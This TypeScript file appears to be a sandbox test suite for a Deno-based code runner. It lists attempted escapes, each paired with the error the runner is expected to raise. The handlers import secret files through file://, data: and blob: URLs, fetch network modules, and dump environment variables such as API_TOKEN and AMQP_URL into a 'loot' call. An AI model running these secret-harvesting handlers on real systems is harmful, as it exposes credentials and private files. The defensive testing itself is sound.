import type { Attempt } from "../attempt.ts";

function importing(tries: string, url: string, gets: string, options = ""): Attempt {
  return { tries, handler: `const url = ${url}; await loot(JSON.stringify(await import(url${options})));`, gets };
}

const JSON_TYPE = ', { with: { type: "json" } }';

/** By what it imports while it runs, and its environment. */
export const IMPORTS: readonly Attempt[] = [
  importing("imports from the network", '"https://deno.land/std@0.224.0/version.ts?secret"', "cached"),
  importing("imports from another host of the network", '"https://example.com/x.ts"', "--cached-only"),
  importing("imports from the runner's own API", "`http://${at.host}:${at.port}/x.js`", "--cached-only"),
  importing("imports a file that is not its own", "`file://${at.secretCode}`", "Requires read access"),
  importing("imports data that is not its own", "`file://${at.secretJson}`", "Requires read access", JSON_TYPE),
  importing(
    "imports a module of its own making that imports a file",
    "'data:text/javascript,' + encodeURIComponent(`export { default } from 'file://${at.secretJson}' with { type: 'json' };`)",
    "Requires read access",
  ),
  importing(
    "imports a module of its own making that imports code",
    "'data:text/javascript,' + encodeURIComponent(`export * from 'file://${at.secretCode}';`)",
    "Requires read access",
  ),
  importing(
    "imports a blob of its own making that imports a file",
    "URL.createObjectURL(new Blob([`export { default } from 'file://${at.secretJson}' with { type: 'json' };`], { type: 'text/javascript' }))",
    "Requires read access",
  ),
  importing("imports a text that is not its own", "`file://${at.secretJson}`", "", ', { with: { type: "text" } }'),
  importing(
    "imports the bytes of what is not its own",
    "`file://${at.secretJson}`",
    "",
    ', { with: { type: "bytes" } }',
  ),
  // One that no test and no other program here has put into Deno's cache.
  importing("imports a package that its source does not name", '"npm:is-thirteen@2.0.0"', ""),
  importing("imports a package that there is not", '"npm:@warren/no-such-package-at-all"', ""),
  {
    tries: "reads by a module of its own making",
    handler: `
      const source = "export const read = (path) => Deno.readTextFileSync(path);";
      const { read } = await import("data:text/javascript," + encodeURIComponent(source));
      await loot(read(at.secretJson));`,
    gets: "Requires read access",
  },
  {
    tries: "looks for the runner's secrets in its environment",
    handler: 'if (Deno.env.has("API_TOKEN")) await loot(Deno.env.get("API_TOKEN"));',
  },
  {
    tries: "looks at its whole environment",
    handler: "for (const found of Object.entries(Deno.env.toObject())) await loot(found);",
  },
  {
    tries: "looks for secrets by node:process",
    imports: 'import process from "node:process";',
    handler: "for (const found of Object.entries({ ...process.env })) await loot(found);",
  },
  {
    tries: "names the runner's secrets in its config",
    permissions: { env: ["API_TOKEN", "AMQP_URL", "BROKER_USERS", "AMQP_URL_FILE", "ONCE_STORE", "API_*", "AMQP*"] },
    handler: `
      for (const name of ["API_TOKEN", "AMQP_URL", "BROKER_USERS", "AMQP_URL_FILE", "ONCE_STORE"]) {
        const value = Deno.env.get(name);
        if (value !== undefined) await loot(name + "=" + value);
      }`,
  },
  {
    tries: "looks for secrets where it may see all of the environment",
    permissions: { env: true },
    handler: `
      const found = Object.values(Deno.env.toObject()).filter((value) => value.includes("warren-secret"));
      if (found.length > 0) await loot(found);`,
  },
];
